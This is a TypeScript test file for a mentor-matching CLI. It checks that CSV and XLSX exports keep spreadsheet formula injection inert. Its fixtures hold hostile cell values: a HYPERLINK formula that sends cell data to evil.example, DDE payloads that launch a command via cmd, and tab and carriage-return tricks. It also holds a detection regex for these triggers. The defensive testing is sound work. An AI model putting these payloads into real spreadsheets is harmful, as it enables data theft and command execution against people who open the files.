// Formula injection (OWASP "CSV Injection"): participant text that starts with = + - @, a tab or a
// carriage return must stay inert in every file the CLI writes. CSV cells get a leading ' (and read
// back unchanged with unescapeFormulas); XLSX cells are text, never <f> formulas. The add-in's Excel
// writer is covered by its own host tests (text number format before the values).
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { listXlsxSheets, readCsv, readXlsx } from '@mentor-matcher/tabular';
import { runCli, tempDir } from '../run-cli.js';
import { csvText, sampleRows, withCell, type Rows } from './fixtures.js';

const hostile = {
  'first name': '=HYPERLINK("http://evil.example/?"&A1,"click")',
  'last name': "+cmd|' /C calc'!A0",
  'job title': '-2+3',
  biography: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const tab = '\t=1+1';
const carriageReturn = '\r=2+2';

function poisoned(rows: Rows, index: number): Rows {
  let out = rows;
  for (const [name, value] of Object.entries(hostile)) out = withCell(out, index, name, value);
  return withCell(withCell(out, index + 1, 'job title', carriageReturn), index + 1, 'biography', tab);
}

const trigger = /^[=+\-@\t\r]/;

let cwd: string;
beforeAll(async () => {
  cwd = tempDir('mm-injection-');
  writeFileSync(join(cwd, 'mentors.csv'), csvText(poisoned(sampleRows('mentors'), 0)));
  writeFileSync(join(cwd, 'mentees.csv'), csvText(poisoned(sampleRows('mentees'), 2)));
  const both = [
    'match',
    '--mentors',
    'mentors.csv',
    '--mentees',
    'mentees.csv',
    '--notify-lists',
    '--mail-merge',
    '-q',
  ];
  const csv = await runCli([...both, '--out', 'csv'], { cwd });
  const xlsx = await runCli([...both, '--out', 'xlsx', '--format', 'xlsx'], { cwd });
  expect([csv.code, xlsx.code]).toEqual([0, 0]);
});

describe('formula injection in the CLI results', () => {
  it('no CSV cell meant for a spreadsheet starts with a formula trigger', () => {
    const files = readdirSync(join(cwd, 'csv')).filter((f) => f.endsWith('.csv') && !f.startsWith('notify-'));
    expect(files.length).toBeGreaterThanOrEqual(5);
    for (const file of files) {
      const table = readCsv(readFileSync(join(cwd, 'csv', file)), { source: file });
      for (const cell of [...table.header, ...table.rows.flat()]) {
        if (typeof cell === 'string') expect(trigger.test(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
      }
    }
  });

  it('CSV cells read back with unescapeFormulas are the participants’ text, unchanged', () => {
    const table = readCsv(readFileSync(join(cwd, 'csv', 'mentors.csv')), {
      source: 'mentors.csv',
      unescapeFormulas: true,
    });
    expect(new Set(table.rows.flat()).has(hostile['first name'])).toBe(true);
    // Each person's own job title and biography are in their row as typed; the mail merge carries
    // each match's as the messages do: trimmed, so the tab and carriage return in front are gone.
    for (const value of [hostile.biography, hostile['job title'], tab, carriageReturn]) {
      expect(new Set(table.rows.flat()).has(value), JSON.stringify(value)).toBe(true);
    }
    const merge = readCsv(readFileSync(join(cwd, 'csv', 'mail-merge.csv')), {
      source: 'mail-merge.csv',
      unescapeFormulas: true,
    });
    const cells = new Set(merge.rows.flat());
    for (const value of [hostile.biography, hostile['job title'], tab.trim(), carriageReturn.trim()]) {
      expect(cells.has(value), JSON.stringify(value)).toBe(true);
    }
    const pairs = readCsv(readFileSync(join(cwd, 'csv', 'pairs.csv')), { source: 'pairs.csv', unescapeFormulas: true });
    expect(pairs.rows.flat().some((cell) => typeof cell === 'string' && cell.includes(hostile['first name']))).toBe(
      true,
    );
  });

  it('GOV.UK Notify upload lists carry the participants’ text as typed, with no added quote', () => {
    const files = readdirSync(join(cwd, 'csv')).filter((f) => f.startsWith('notify-') && f.endsWith('.csv'));
    expect(files).toHaveLength(4);
    const cells = new Set(
      files.flatMap((file) => readCsv(readFileSync(join(cwd, 'csv', file)), { source: file }).rows.flat()),
    );
    const texts = [...cells].filter((cell): cell is string => typeof cell === 'string');
    expect(texts.some((cell) => cell.includes(hostile['first name']))).toBe(true);
    expect(texts.some((cell) => cell.startsWith("'"))).toBe(false);
  });

  it('the XLSX workbook holds no formula, and the hostile text is there as text', () => {
    const bytes = readFileSync(join(cwd, 'xlsx', 'results.xlsx'));
    const parts = unzipSync(bytes);
    const sheets = Object.keys(parts).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThanOrEqual(5);
    for (const name of sheets) expect(strFromU8(parts[name])).not.toMatch(/<f[\s>]/);
    const found = new Set<unknown>();
    for (const sheet of listXlsxSheets(bytes, { source: 'results.xlsx' })) {
      for (const cell of readXlsx(bytes, { source: 'results.xlsx', sheet }).rows.flat()) found.add(cell);
    }
    for (const value of [...Object.values(hostile), tab.trim(), carriageReturn.trim()]) {
      expect(found.has(value), JSON.stringify(value)).toBe(true);
    }
  });
});
